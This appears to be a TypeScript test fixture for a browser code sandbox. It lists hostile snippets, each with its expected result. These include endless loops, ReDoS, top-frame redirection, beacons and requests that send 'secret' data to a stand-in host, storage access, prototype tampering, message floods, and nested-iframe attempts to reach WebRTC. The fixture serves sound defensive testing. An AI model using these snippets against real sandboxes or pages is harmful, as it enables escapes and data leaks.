/** Malicious or accidentally harmful code, with the expected result. */
export interface Hostile {
  source: string;
  /** How it ends by itself; `silent` does not even respond: the reader stops it. */
  ends: 'done' | 'endless' | 'flooded' | 'left' | 'silent' | 'endless or silent';
  /** Its output, when that shows that it failed to do harm. */
  prints?: string[];
}

const attempts = (...lines: string[]): string =>
  lines.map((line) => `try { ${line} } catch (error) { console.log(error.name); }`).join('\n');

export const hostileSources: Readonly<Record<string, Hostile>> = {
  'an endless loop': { source: 'while (true) {}', ends: 'endless' },
  'an endless search': { source: '/(a+)+$/.test("a".repeat(50) + "b");', ends: 'silent' },
  'an endless loop of microtasks': {
    source: 'const again = () => Promise.resolve().then(again); await again();',
    ends: 'silent',
  },
  'a page that grows for ever': {
    source: 'while (true) document.body.append(document.createElement("p"));',
    ends: 'endless or silent',
  },
  'another address for the page': {
    source: attempts(
      'top.location = "https://outside.invalid/";',
      'parent.location.href = "https://outside.invalid/";',
      'window.open("https://outside.invalid/").focus();',
      'parent.document.title = "taken";',
    ),
    ends: 'done',
    prints: ['SecurityError', 'SecurityError', 'TypeError', 'SecurityError'],
  },
  'another address for the frame': {
    source: 'location.href = "https://outside.invalid/?secret"; await new Promise(() => {});',
    ends: 'left',
  },
  'requests of every kind': {
    source: `
      const outside = 'https://outside.invalid/';
      const tell = (name: string) => (error: unknown) => console.log(name, !!error);
      await fetch(outside).catch(tell('fetch'));
      await fetch('/docs/introduction/').catch(tell('fetch here'));
      await import(outside + 'a.js').catch(tell('import'));
      const request = new XMLHttpRequest();
      await new Promise((resolve) => {
        request.onerror = resolve;
        request.open('GET', outside);
        request.send();
      }).then(tell('request'));
      const image = new Image();
      await new Promise((resolve) => {
        image.onerror = resolve;
        image.src = outside;
      }).then(tell('image'));
      const frame = document.createElement('iframe');
      frame.src = outside;
      document.body.append(frame);
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = outside;
      document.head.append(style);
      navigator.sendBeacon(outside, 'secret');
      new EventSource(outside).close();
      const form = document.createElement('form');
      form.action = outside;
      document.body.append(form);
      form.submit();
    `,
    ends: 'done',
    prints: ['fetch true', 'fetch here true', 'import true', 'request true', 'image true'],
  },
  'storage and cookies': {
    source: attempts(
      'localStorage.setItem("a", "b");',
      'sessionStorage.getItem("a");',
      'document.cookie = "a=b";',
      'indexedDB.open("a").onerror = null;',
      'caches.open("a").catch(({ name }) => console.log(name));',
      'await navigator.serviceWorker.register("/a.js");',
    ),
    ends: 'done',
    prints: [
      'SecurityError',
      'SecurityError',
      'SecurityError',
      'SecurityError',
      'SecurityError',
      'SecurityError',
    ],
  },
  'tampering with what everything is made of': {
    source: `
      Object.prototype.type = 'result';
      Array.prototype.map = () => { throw new Error('map'); };
      JSON.stringify = () => '{"type":"event","name":"__proto__","payload":{"__proto__":{"x":1}}}';
      MessagePort.prototype.postMessage = () => { throw new Error('post'); };
      parent.postMessage('live', '*', [new MessageChannel().port2]);
      parent.postMessage({ type: 'result' }, '*');
    `,
    ends: 'done',
  },
  'ten megabytes of text': {
    source: `
      console.log('x'.repeat(10_000_000));
      document.body.append('x'.repeat(10_000_000));
      parent.postMessage('x'.repeat(10_000_000), '*');
      console.log('end');
    `,
    ends: 'done',
  },
  'messages without end': {
    source: 'for (;;) console.log("again");',
    ends: 'flooded',
  },
  'messages without end, past the channel': {
    source: `
      const again = () => {
        for (let count = 0; count < 100; count++) parent.postMessage('x'.repeat(1_000), '*');
        setTimeout(again);
      };
      again();
      await new Promise(() => {});
    `,
    ends: 'flooded',
  },
  'a call to another machine, from here and from frames within': {
    source: `
      console.log(Object.getOwnPropertyNames(window).filter((name) => /RTC/.test(name)).join());
      const frame = document.createElement('iframe');
      document.body.append(frame);
      try {
        console.log(typeof frame.contentWindow.RTCPeerConnection);
      } catch (error) {
        console.log(error.name);
      }
      const heard: string[] = [];
      addEventListener('message', ({ data }) => heard.push(String(data)));
      const tell = 'parent.postMessage(typeof RTCPeerConnection, "*")';
      const address = URL.createObjectURL(new Blob([tell], { type: 'text/javascript' }));
      const inside = [
        '<script>' + tell + '</script>',
        '<script src="' + address + '"></script>',
        '<img src="" onerror="' + tell.replaceAll('"', "'") + '">',
      ];
      for (const markup of inside) {
        const nested = document.createElement('iframe');
        nested.srcdoc = markup;
        document.body.append(nested);
      }
      for (const outer of ['data:text/html,', 'javascript:']) {
        const nested = document.createElement('iframe');
        nested.src = outer + (outer === 'javascript:' ? tell : inside[0]);
        document.body.append(nested);
      }
      const page = new Blob([inside[0]], { type: 'text/html' });
      const made = document.createElement('iframe');
      made.src = URL.createObjectURL(page);
      document.body.append(made);
      const text = document.querySelector('script')?.text ?? '';
      const again = document.createElement('iframe');
      again.srcdoc = '<script>' + text + '</script>';
      document.body.append(again);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      console.log(heard.filter((said) => said === 'function').length, text.length > 0);
    `,
    ends: 'done',
    prints: ['', 'SecurityError', '0 true'],
  },
  'code made of text': {
    source: attempts('eval("1");', 'new Function("return 1")();'),
    ends: 'done',
    prints: ['EvalError', 'EvalError'],
  },
};
